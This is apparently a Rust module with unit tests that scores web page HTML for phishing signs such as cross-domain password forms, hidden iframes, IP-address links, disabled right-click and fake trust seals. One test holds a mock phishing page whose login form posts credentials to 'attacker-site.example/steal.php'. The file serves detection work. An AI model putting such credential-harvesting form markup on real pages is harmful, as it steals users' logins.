// src/core/checks/html_heuristic.rs

use crate::core::fetchers::host_of;
use crate::core::models::CheckResult;
use once_cell::sync::Lazy;
use regex::Regex;
use scraper::{ElementRef, Html, Selector};
use tracing::debug;
use url::Url;

// Penalties subtracted from the perfect 1.0 baseline. Thresholds are tuned
// to keep false positives low on portal-style sites with many outbound
// links and on modern forms full of CSRF/session hidden fields.
const P_HIGH_NULL_LINK_RATIO: f64 = 0.20; // > 40% null/broken links
const P_HIGH_EXTERNAL_LINK_RATIO: f64 = 0.12; // > 80% external links
const P_SENSITIVE_FORM_EXTERNAL: f64 = 0.30; // password form posting cross-domain
const P_SENSITIVE_FORM_SUSPICIOUS: f64 = 0.20; // password form with empty/'#' action
const P_HIDDEN_IFRAME_SUSPICIOUS: f64 = 0.15; // hidden iframe from an unknown domain
const P_RIGHT_CLICK_DISABLED: f64 = 0.15;
const P_IP_ADDRESS_LINKS: f64 = 0.20;
const P_MANY_HIDDEN_INPUTS: f64 = 0.08; // > 15 hidden inputs
const P_SUSPICIOUS_TRUST_BADGE: f64 = 0.12;

const NULL_LINK_THRESHOLD: f64 = 0.4;
const EXTERNAL_LINK_THRESHOLD: f64 = 0.8;
const HIDDEN_INPUT_THRESHOLD: usize = 15;

static IP_LINK_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?i)https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}").unwrap());

/// Iframe sources that legitimately render invisible (analytics, tag
/// managers, social embeds).
const LEGITIMATE_IFRAME_DOMAINS: &[&str] = &[
    "google.com",
    "googletagmanager.com",
    "google-analytics.com",
    "doubleclick.net",
    "facebook.com",
    "twitter.com",
    "youtube.com",
    "cloudflare.com",
    "jsdelivr.net",
    "unpkg.com",
];

/// Wording that marks an image as a trust badge or certification seal.
const BADGE_KEYWORDS: &[&str] = &[
    "trustmark",
    "trust seal",
    "site seal",
    "security seal",
    "certified",
    "certification",
    "verified",
    "secure checkout",
    "secure payment",
    "safe shopping",
    "buyer protection",
    "protected by",
    "secured by",
    "dmca",
    "truste",
    "trustarc",
    "privacy seal",
    "bbb",
    "better business bureau",
    "trustedsite",
    "mcafee secure",
    "digicert",
    "geotrust",
    "thawte",
    "sectigo",
    "comodo",
    "trustlogo",
    "globalsign",
    "norton secured",
];

/// Domains a badge of the given kind must link to in order to verify.
/// Badges are trivially copied images; only the link back to the issuer's
/// validation page distinguishes a real one.
const BADGE_ISSUERS: &[(&str, &[&str])] = &[
    ("dmca", &["dmca.com"]),
    ("truste", &["truste.com", "trustarc.com"]),
    ("trustarc", &["trustarc.com", "truste.com"]),
    ("better business bureau", &["bbb.org"]),
    ("bbb", &["bbb.org"]),
    ("trustedsite", &["trustedsite.com"]),
    ("mcafee secure", &["trustedsite.com", "mcafeesecure.com"]),
    ("digicert", &["digicert.com"]),
    ("geotrust", &["geotrust.com", "digicert.com"]),
    ("thawte", &["thawte.com", "digicert.com"]),
    ("sectigo", &["sectigo.com", "trustlogo.com"]),
    ("comodo", &["sectigo.com", "trustlogo.com", "comodoca.com"]),
    ("trustlogo", &["trustlogo.com", "sectigo.com"]),
    ("globalsign", &["globalsign.com"]),
];

/// Analyzes the page markup for phishing indicators.
///
/// Pure function of the shared raw HTML; an empty page abstains because
/// there is nothing to judge.
pub fn analyze_html(raw_html: &str, page_url: &str) -> CheckResult {
    if raw_html.trim().is_empty() {
        debug!("No HTML content to analyze, abstaining.");
        return CheckResult::no_data(vec![
            "No HTML content to analyze (request blocked, non-HTML, or page failed to load)"
                .to_string(),
            "Module excluded from final score calculation".to_string(),
        ]);
    }

    let document = Html::parse_document(raw_html);
    let current_domain = host_of(page_url).unwrap_or_default();
    let mut score = 1.0;
    let mut warnings: Vec<String> = Vec::new();

    // 1. Link texture: pages faked up from a template are full of dead
    //    anchors, and pure facades link mostly away from themselves.
    let links = collect_links(&document);
    if !links.is_empty() {
        let total = links.len() as f64;
        let null_count = links.iter().filter(|href| is_null_link(href)).count();
        let external_count = links
            .iter()
            .filter(|href| is_external_link(href, &current_domain))
            .count();
        let null_ratio = null_count as f64 / total;
        let external_ratio = external_count as f64 / total;
        debug!(
            total = links.len(),
            null = null_count,
            external = external_count,
            "Link analysis finished."
        );

        if null_ratio > NULL_LINK_THRESHOLD {
            warnings.push(format!(
                "High ratio of null/broken links ({:.0}%).",
                null_ratio * 100.0
            ));
            score -= P_HIGH_NULL_LINK_RATIO;
        }
        if external_ratio > EXTERNAL_LINK_THRESHOLD {
            warnings.push(format!(
                "Unusually high share of external links ({:.0}%).",
                external_ratio * 100.0
            ));
            score -= P_HIGH_EXTERNAL_LINK_RATIO;
        }

        // Anchors pointing straight at IP addresses.
        if links.iter().any(|href| IP_LINK_RE.is_match(href)) {
            warnings.push("Contains hyperlinks pointing directly to IP addresses.".to_string());
            score -= P_IP_ADDRESS_LINKS;
        }
    }

    // 2. Login forms: where do the credentials go?
    match analyze_login_forms(&document, page_url, &current_domain) {
        LoginFormFinding::ExternalAction => {
            warnings.push(
                "Login form posts credentials to an external domain (cross-domain form submission)."
                    .to_string(),
            );
            score -= P_SENSITIVE_FORM_EXTERNAL;
        }
        LoginFormFinding::SuspiciousAction => {
            warnings
                .push("Login form detected with a suspicious/empty action attribute.".to_string());
            score -= P_SENSITIVE_FORM_SUSPICIOUS;
        }
        LoginFormFinding::None => {}
    }

    // 3. Hidden inputs beyond what CSRF tokens and session state explain.
    let hidden_inputs = count_hidden_inputs(&document);
    if hidden_inputs > HIDDEN_INPUT_THRESHOLD {
        warnings.push(format!(
            "Suspiciously high number of hidden input fields ({hidden_inputs})."
        ));
        score -= P_MANY_HIDDEN_INPUTS;
    }

    // 4. Hidden iframes from domains with no business being invisible.
    if has_suspicious_hidden_iframe(&document) {
        warnings.push("Hidden iframe detected (possible cloaking/drive-by content).".to_string());
        score -= P_HIDDEN_IFRAME_SUSPICIOUS;
    }

    // 5. Anti-analysis behavior.
    let html_lower = raw_html.to_lowercase();
    if html_lower.contains(r#"oncontextmenu="return false""#) || html_lower.contains("event.button==2")
    {
        warnings.push("Right-click is disabled (anti-analysis behavior).".to_string());
        score -= P_RIGHT_CLICK_DISABLED;
    }

    // 6. Trust badges that do not verify.
    let badges = analyze_trust_badges(&document, page_url, &current_domain);
    if badges.suspicious > 0 {
        warnings.push(format!(
            "Trust badge/seal detected but not verifiable or suspicious ({}/{}).",
            badges.suspicious, badges.detected
        ));
        score -= P_SUSPICIOUS_TRUST_BADGE;
    }

    debug!(warnings = warnings.len(), score, "HTML heuristic analysis finished.");
    let details = if warnings.is_empty() {
        vec!["Status: HTML content appears normal (no obvious suspicious patterns).".to_string()]
    } else {
        warnings
            .into_iter()
            .map(|w| format!("WARNING: {w}"))
            .collect()
    };
    CheckResult::scored(score, details)
}

fn collect_links(document: &Html) -> Vec<String> {
    let Ok(selector) = Selector::parse("a[href]") else {
        return Vec::new();
    };
    document
        .select(&selector)
        .filter_map(|a| a.value().attr("href"))
        .map(|href| href.trim().to_string())
        .collect()
}

fn is_null_link(href: &str) -> bool {
    href.is_empty() || href == "#" || href.to_lowercase().starts_with("javascript:void")
}

fn is_external_link(href: &str, current_domain: &str) -> bool {
    if !href.to_lowercase().starts_with("http") {
        return false;
    }
    match Url::parse(href) {
        Ok(url) => url
            .host_str()
            .is_some_and(|h| !h.is_empty() && !h.eq_ignore_ascii_case(current_domain)),
        Err(_) => false,
    }
}

enum LoginFormFinding {
    None,
    SuspiciousAction,
    ExternalAction,
}

/// Inspects forms only when a password field is present; ordinary search
/// boxes posting elsewhere are not interesting.
fn analyze_login_forms(
    document: &Html,
    page_url: &str,
    current_domain: &str,
) -> LoginFormFinding {
    let (Ok(input_selector), Ok(form_selector)) =
        (Selector::parse("input"), Selector::parse("form"))
    else {
        return LoginFormFinding::None;
    };

    let has_password_field = document.select(&input_selector).any(|input| {
        input
            .value()
            .attr("type")
            .is_some_and(|t| t.eq_ignore_ascii_case("password"))
    });
    if !has_password_field {
        return LoginFormFinding::None;
    }

    let mut suspicious_action = false;
    for form in document.select(&form_selector) {
        let action = form.value().attr("action").unwrap_or("").trim();
        if action.is_empty() || action == "#" {
            suspicious_action = true;
            continue;
        }

        let Ok(base) = Url::parse(page_url) else {
            continue;
        };
        let Ok(resolved) = base.join(action) else {
            continue;
        };
        let Some(action_domain) = resolved.host_str().map(|h| h.to_lowercase()) else {
            continue;
        };
        if action_domain != current_domain {
            // login.example.com posting to example.com is fine.
            let related = action_domain.ends_with(&format!(".{current_domain}"))
                || current_domain.ends_with(&format!(".{action_domain}"));
            if !related {
                return LoginFormFinding::ExternalAction;
            }
        }
    }

    if suspicious_action {
        LoginFormFinding::SuspiciousAction
    } else {
        LoginFormFinding::None
    }
}

fn count_hidden_inputs(document: &Html) -> usize {
    let Ok(selector) = Selector::parse(r#"input[type="hidden"]"#) else {
        return 0;
    };
    document.select(&selector).count()
}

/// A hidden iframe is suspicious unless it comes from a domain known to
/// embed invisible frames legitimately.
fn has_suspicious_hidden_iframe(document: &Html) -> bool {
    let Ok(selector) = Selector::parse("iframe") else {
        return false;
    };

    for iframe in document.select(&selector) {
        let style = iframe.value().attr("style").unwrap_or("").to_lowercase();
        let width = iframe.value().attr("width").unwrap_or("").trim();
        let height = iframe.value().attr("height").unwrap_or("").trim();

        let zero_size = matches!(width, "0" | "0px") || matches!(height, "0" | "0px");
        let hidden_style =
            style.contains("display:none") || style.contains("visibility:hidden");
        if !zero_size && !hidden_style {
            continue;
        }

        let src = iframe.value().attr("src").unwrap_or("").to_lowercase();
        let allowlisted = LEGITIMATE_IFRAME_DOMAINS
            .iter()
            .any(|domain| src.contains(domain));
        if !allowlisted {
            return true;
        }
    }
    false
}

#[derive(Default)]
struct BadgeFindings {
    detected: usize,
    verified: usize,
    suspicious: usize,
}

fn analyze_trust_badges(document: &Html, page_url: &str, current_domain: &str) -> BadgeFindings {
    let Ok(img_selector) = Selector::parse("img") else {
        return BadgeFindings::default();
    };

    let mut findings = BadgeFindings::default();
    for img in document.select(&img_selector) {
        let text = badge_text(&img);
        if text.is_empty() || !BADGE_KEYWORDS.iter().any(|k| text.contains(k)) {
            continue;
        }
        findings.detected += 1;

        // The badge must be wrapped in a link to be verifiable at all.
        let Some(href) = enclosing_link(&img) else {
            findings.suspicious += 1;
            continue;
        };
        if href.is_empty() || href == "#" {
            findings.suspicious += 1;
            continue;
        }

        let href_domain = Url::parse(page_url)
            .ok()
            .and_then(|base| base.join(&href).ok())
            .and_then(|u| u.host_str().map(|h| h.to_lowercase()))
            .unwrap_or_default();

        match BADGE_ISSUERS.iter().find(|(kind, _)| text.contains(kind)) {
            Some((_, issuers)) => {
                if issuers.iter().any(|issuer| href_domain.ends_with(issuer)) {
                    findings.verified += 1;
                } else {
                    findings.suspicious += 1;
                }
            }
            None => {
                // Generic badge linking back to the page itself verifies
                // nothing.
                if href_domain == current_domain {
                    findings.suspicious += 1;
                }
            }
        }
    }
    findings
}

fn badge_text(img: &ElementRef) -> String {
    let value = img.value();
    [value.attr("alt"), value.attr("title"), value.attr("src")]
        .into_iter()
        .flatten()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

fn enclosing_link(img: &ElementRef) -> Option<String> {
    for ancestor in img.ancestors() {
        let Some(element) = ancestor.value().as_element() else {
            continue;
        };
        if element.name() == "a" {
            return Some(element.attr("href").unwrap_or("").trim().to_string());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::models::CheckStatus;

    const PAGE_URL: &str = "https://legit-bank.example";

    #[test]
    fn empty_html_abstains() {
        let result = analyze_html("", PAGE_URL);
        assert_eq!(result.status, CheckStatus::NoData);
        assert_eq!(result.score, None);
    }

    #[test]
    fn clean_page_scores_perfect() {
        let html = r#"
            <html><body>
                <h1>Welcome</h1>
                <a href="/about">About us</a>
                <a href="/products">Products</a>
                <a href="https://legit-bank.example/contact">Contact</a>
            </body></html>
        "#;
        let result = analyze_html(html, PAGE_URL);
        assert_eq!(result.score, Some(1.0));
        assert!(result.details[0].contains("appears normal"));
    }

    #[test]
    fn phishing_patterns_stack_to_a_low_score() {
        let html = r##"
            <html>
              <body oncontextmenu="return false">
                <form action="http://attacker-site.example/steal.php">
                  <input type="text" name="user">
                  <input type="password" name="pass">
                </form>
                <a href="#">Menu</a>
                <a href="javascript:void(0)">Click</a>
                <a href="https://1.2.3.4/login">IP login</a>
                <a href="https://facebook.com/help">External link</a>
                <iframe src="http://malicious.example/ad.html" style="display:none" width="0" height="0"></iframe>
              </body>
            </html>
        "##;
        let result = analyze_html(html, PAGE_URL);
        // Null links, external form action, hidden iframe, right-click
        // block, and IP links all fire at once.
        assert!(result.score.unwrap() <= 0.2);
        assert!(result.details.len() >= 5);
    }

    #[test]
    fn login_form_posting_to_a_subdomain_is_allowed() {
        let html = r#"
            <html><body>
                <form action="https://auth.legit-bank.example/session">
                    <input type="password" name="pass">
                </form>
                <a href="/home">Home</a>
            </body></html>
        "#;
        let result = analyze_html(html, PAGE_URL);
        assert_eq!(result.score, Some(1.0));
    }

    #[test]
    fn login_form_with_empty_action_is_flagged() {
        let html = r##"
            <html><body>
                <form action="#"><input type="password" name="p"></form>
                <a href="/home">Home</a>
            </body></html>
        "##;
        let result = analyze_html(html, PAGE_URL);
        assert!((result.score.unwrap() - 0.8).abs() < 1e-9);
        assert!(result.details[0].contains("suspicious/empty action"));
    }

    #[test]
    fn hidden_analytics_iframe_is_not_flagged() {
        let html = r#"
            <html><body>
                <p>Storefront with products.</p>
                <a href="/shop">Shop</a>
                <iframe src="https://www.googletagmanager.com/ns.html" height="0" width="0" style="display:none"></iframe>
            </body></html>
        "#;
        let result = analyze_html(html, PAGE_URL);
        assert_eq!(result.score, Some(1.0));
    }

    #[test]
    fn unverifiable_trust_badge_is_penalized() {
        let html = r#"
            <html><body>
                <a href="/home">Home</a>
                <img src="/static/norton-secured-seal.png" alt="Norton Secured trust seal">
            </body></html>
        "#;
        let result = analyze_html(html, PAGE_URL);
        assert!((result.score.unwrap() - 0.88).abs() < 1e-9);
        assert!(result.details[0].contains("Trust badge"));
    }

    #[test]
    fn badge_linking_to_its_issuer_verifies() {
        let html = r#"
            <html><body>
                <a href="/home">Home</a>
                <a href="https://www.dmca.com/certificate/abc123">
                    <img src="/static/dmca-badge.png" alt="DMCA protected badge">
                </a>
            </body></html>
        "#;
        let result = analyze_html(html, PAGE_URL);
        assert_eq!(result.score, Some(1.0));
    }

    #[test]
    fn excessive_hidden_inputs_are_flagged() {
        let inputs = r#"<input type="hidden" name="x">"#.repeat(16);
        let html = format!(
            r#"<html><body><a href="/a">a</a><form>{inputs}</form></body></html>"#
        );
        let result = analyze_html(&html, PAGE_URL);
        assert!((result.score.unwrap() - 0.92).abs() < 1e-9);
    }
}
